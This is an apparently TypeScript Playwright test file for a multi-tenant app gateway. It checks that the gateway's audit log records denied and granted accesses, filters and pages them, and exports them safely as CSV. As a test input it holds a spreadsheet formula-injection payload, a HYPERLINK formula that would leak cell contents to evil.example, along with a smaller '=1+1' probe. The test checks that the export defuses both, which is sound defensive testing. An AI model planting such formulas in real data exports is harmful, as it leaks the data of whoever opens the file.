import { readFileSync } from 'node:fs';
import { expect, request as playwrightRequest, test, type Page } from '@playwright/test';
import { mintWithApiToken, mintWithCookie, snap } from './support/admin';
import { DEMO, GATEWAY_URL, storageStatePath } from './support/env';
import { expectVerified } from './support/pages';

// Other tests make mints and denials (as carol, bob and an API token); the later ones read them in alice's logs.
test.describe.configure({ mode: 'serial' });

const FORMULA_UA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
const PROBES = 55;
const OUTSIDER_UA = 'outsider-probe;=1+1';
let apiTokenId = '';

const rows = (page: Page) => page.getByTestId('audit-row');

test.describe('activity', () => {
  test('carol, a member of Acme acting in Globex, asks for Acme’s app again and again (denied, recorded in Acme’s log)', async () => {
    const carol = await playwrightRequest.newContext({ baseURL: GATEWAY_URL, storageState: storageStatePath('carol') });
    const first = await mintWithCookie(carol, 'run_acme_dashboard', { 'user-agent': FORMULA_UA });
    expect(first.status()).toBe(403);
    for (let i = 1; i < PROBES; i++) expect((await mintWithCookie(carol, 'run_acme_dashboard')).status()).toBe(403);
    await carol.dispose();
  });

  test('bob, no member of Acme, probes its app (denied, recorded only in the platform log)', async () => {
    const bob = await playwrightRequest.newContext({ baseURL: GATEWAY_URL, storageState: storageStatePath('bob') });
    expect((await mintWithCookie(bob, 'run_acme_dashboard', { 'user-agent': OUTSIDER_UA })).status()).toBe(404);
    await bob.dispose();
  });

  test.describe('carol', () => {
    test.use({ storageState: storageStatePath('carol') });
    test('a member of Acme, switches to it and opens the onboarding app (minted)', async ({ page }) => {
      await page.goto('/apps/run_acme_onboarding');
      await page.getByTestId('switch-org').click();
      await expectVerified(page, DEMO.carol.name);
    });
  });

  test.describe('alice’s script', () => {
    test.use({ storageState: storageStatePath('alice') });
    test('mints with an API token (minted, auth api_token)', async ({ page }) => {
      await page.goto('/settings/tokens');
      await page.getByLabel('Name (optional)').fill('audit spec');
      await page.getByRole('button', { name: 'Create token' }).click();
      const secret = (await page.getByTestId('new-token-secret').innerText()).trim();
      await page.reload();
      apiTokenId = (await page.locator('[data-testid="token-row"]', { hasText: 'audit spec' }).first().getAttribute('data-token-id'))!;
      const api = await playwrightRequest.newContext({ storageState: { cookies: [], origins: [] } });
      expect((await mintWithApiToken(api, 'run_acme_public', secret)).status()).toBe(200);
      await api.dispose();
    });
  });
});

test.describe('alice’s audit log', () => {
  test.use({ storageState: storageStatePath('alice') });

  test('shows those mints and denials with user, app, workflow, result, code, auth method, token id and IP', async ({ page }, testInfo) => {
    await page.goto('/admin/audit');
    await expect(page.getByTestId('audit-table')).toBeVisible();

    const carol = rows(page).filter({ hasText: DEMO.carol.email }).first();
    await expect(carol).toHaveAttribute('data-result', 'minted');
    await expect(carol).toHaveAttribute('data-app-id', 'run_acme_onboarding');
    await expect(carol).toContainText('Onboarding checklist');
    await expect(carol).toContainText('Session');

    const token = page.locator(`[data-testid="audit-row"]:has-text("${apiTokenId}")`).first();
    await expect(token).toHaveAttribute('data-result', 'minted');
    await expect(token).toHaveAttribute('data-user-id', DEMO.alice.id);
    await expect(token).toContainText('API token');
    await expect(token).toContainText('Public status page');
    await expect(token).toContainText('Weekly reports');

    const refused = page.locator(`[data-testid="audit-row"][data-user-id="${DEMO.carol.id}"][data-result="denied"]`).first();
    await expect(refused).toHaveAttribute('data-code', 'org_mismatch');
    await expect(refused).toContainText(/\d+\.\d+\.\d+\.\d+|::1|—/);
    // An outsider's probe is not Acme's business, nor can an outsider write into Acme's log.
    await expect(page.locator(`[data-testid="audit-row"][data-user-id="${DEMO.bob.id}"]`)).toHaveCount(0);
    await snap(page, testInfo, 'audit-log');
  });

  test('the platform log shows the outsider’s probe; bob’s probe is nowhere in Acme’s export', async ({ page }) => {
    await page.goto('/admin/platform-log');
    const probe = page.locator(`[data-testid="audit-row"][data-user-id="${DEMO.bob.id}"]`).first();
    await expect(probe).toHaveAttribute('data-code', 'not_found');
    await expect(probe).toHaveAttribute('data-app-id', 'run_acme_dashboard');
    // carol's org_mismatch denials belong to Acme, whose member she is (other specs may leave her own
    // probes of apps that do not exist here, which are nobody's org's).
    await expect(page.locator(`[data-testid="audit-row"][data-user-id="${DEMO.carol.id}"][data-app-id="run_acme_dashboard"]`)).toHaveCount(0);
    const csv = await (await page.request.get('/admin/audit/export')).text();
    expect(csv).not.toContain(DEMO.bob.id);
    expect(csv).not.toContain(OUTSIDER_UA);
  });

  test('filters by user and result, and pages 50 at a time on the server', async ({ page }) => {
    await page.goto('/admin/audit');
    await page.getByLabel('User').selectOption(DEMO.carol.id);
    await page.getByLabel('Result').selectOption('denied');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    await page.waitForURL(/user=usr_carol/);
    expect(new URL(page.url()).searchParams.get('result')).toBe('denied');
    await expect(rows(page)).toHaveCount(50);
    for (const r of await rows(page).all()) {
      await expect(r).toHaveAttribute('data-user-id', DEMO.carol.id);
      await expect(r).toHaveAttribute('data-result', 'denied');
    }
    const firstPageIds = await rows(page).evaluateAll((els) => els.map((e) => e.getAttribute('data-event-id')));

    await page.getByTestId('audit-older').click();
    await page.waitForURL(/before=\d+_\d+/);
    const older = await rows(page).count();
    expect(older).toBeGreaterThanOrEqual(PROBES - 50);
    expect(older).toBeLessThan(50);
    for (const r of await rows(page).all()) await expect(r).toHaveAttribute('data-user-id', DEMO.carol.id);
    const olderIds = await rows(page).evaluateAll((els) => els.map((e) => e.getAttribute('data-event-id')));
    expect(olderIds.some((t) => firstPageIds.includes(t))).toBe(false);
    await expect(page.getByTestId('audit-older')).toHaveCount(0);
    await page.getByTestId('audit-newest').click();
    await expect(rows(page)).toHaveCount(50);
  });

  test('filters by app and by time range', async ({ page }) => {
    await page.goto('/admin/audit?app=run_acme_onboarding');
    await expect(rows(page).first()).toBeVisible();
    for (const r of await rows(page).all()) await expect(r).toHaveAttribute('data-app-id', 'run_acme_onboarding');

    const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 16);
    await page.goto(`/admin/audit?from=${tomorrow}`);
    await expect(page.getByTestId('audit-table')).toContainText('No events match.');

    const lastHour = new Date(Date.now() - 3_600_000).toISOString().slice(0, 16);
    const now = new Date(Date.now() + 60_000).toISOString().slice(0, 16);
    await page.goto(`/admin/audit?from=${lastHour}&to=${now}&user=usr_carol&result=denied`);
    await expect(rows(page)).toHaveCount(50);
  });

  test('bad filters say what is wrong next to the field and filter nothing', async ({ page }) => {
    await page.goto('/admin/audit?from=2026-02-30T10:00&to=soon&result=maybe');
    await expect(page.getByTestId('filter-from-error')).toContainText('Enter a date and time');
    await expect(page.getByTestId('filter-to-error')).toContainText('Enter a date and time');
    await expect(page.getByTestId('filter-result-error')).toContainText('Choose minted, denied, changed, or any result.');
    await expect(page.getByTestId('filters-not-applied')).toBeVisible();
    await expect(rows(page)).toHaveCount(50);

    await page.goto('/admin/audit?from=2026-11-29T23:00&to=2026-11-29T22:00');
    await expect(page.getByTestId('filter-to-error')).toHaveText('The end must not be before the start.');

    // Another org's app cannot be asked for.
    await page.goto('/admin/audit?app=run_globex_tracker');
    await expect(page.getByTestId('filter-app-error')).toHaveText('Not an app of Acme Inc.');
  });

  test('exports the filtered log as CSV, with formula cells kept as text', async ({ page }) => {
    await page.goto('/admin/audit?user=usr_carol&result=denied');
    const download = page.waitForEvent('download');
    await page.getByTestId('audit-export').click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(/^audit-org_acme-\d{4}-\d\d-\d\dT\d{6}Z\.csv$/);
    const csv = readFileSync((await file.path())!, 'utf8');
    const lines = csv.trimEnd().split('\r\n');
    expect(lines[0]).toBe('"time_utc","result","code","user_id","user_name","user_email","app_id","app_title","workflow_id","auth_via","api_token_id","ip","user_agent","jti","detail","service_account_id","service_account_name"');
    expect(lines.length - 1).toBeGreaterThanOrEqual(PROBES);
    // Every text cell quoted, so no `;` inside one can start a formula cell in a `;` locale.
    // (The time is a value, not text: unquoted. Carol's first viewer mint of the onboarding app was refused too.)
    for (const line of lines.slice(1)) expect(line).toMatch(/^\d{4}-[^,]+Z,"denied","(org_mismatch|not_allowed)","usr_carol","Carol Chen","carol@example\.test","run_acme_(dashboard|onboarding)",/);
    // The user agent carol sent is a formula: it is quoted, its quotes doubled, and prefixed so no spreadsheet runs it.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);

    const res = await page.request.get('/admin/audit/export?result=minted');
    expect(res.status()).toBe(200);
    expect(res.headers()['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers()['content-disposition']).toMatch(/^attachment; filename="audit-org_acme-/);
    expect(res.headers()['cache-control']).toBe('no-store');
    expect(await res.text()).not.toContain('denied');
  });

  test('the export refuses another site, bad filters, members and strangers', async ({ page }) => {
    const crossSite = await page.request.get('/admin/audit/export', { headers: { 'sec-fetch-site': 'cross-site' } });
    expect(crossSite.status()).toBe(403);
    const otherOrigin = await page.request.get('/admin/audit/export', { headers: { origin: 'https://evil.example' } });
    expect(otherOrigin.status()).toBe(403);
    expect((await page.request.get('/admin/audit/export?app=run_globex_tracker')).status()).toBe(400);

    const bob = await playwrightRequest.newContext({ baseURL: GATEWAY_URL, storageState: storageStatePath('bob') });
    const asBob = await bob.get('/admin/audit/export');
    expect(asBob.status()).toBe(403);
    expect(asBob.headers()['content-type']).toBe('application/problem+json');
    const refusal = (await asBob.json()) as Record<string, unknown>;
    expect(refusal).toMatchObject({ status: 403, code: 'forbidden', title: 'Forbidden', instance: `urn:uuid:${asBob.headers()['x-request-id']}` });
    expect(JSON.stringify(refusal)).not.toContain('usr_');
    await bob.dispose();
    // Explicitly empty: new contexts would otherwise inherit this test's signed-in state.
    const anonymous = await playwrightRequest.newContext({ baseURL: GATEWAY_URL, storageState: { cookies: [], origins: [] } });
    const signedOut = await anonymous.get('/admin/audit/export');
    expect(signedOut.status()).toBe(401);
    expect(await signedOut.json()).toMatchObject({ code: 'unauthenticated', instance: `urn:uuid:${signedOut.headers()['x-request-id']}` });
    await anonymous.dispose();
  });
});
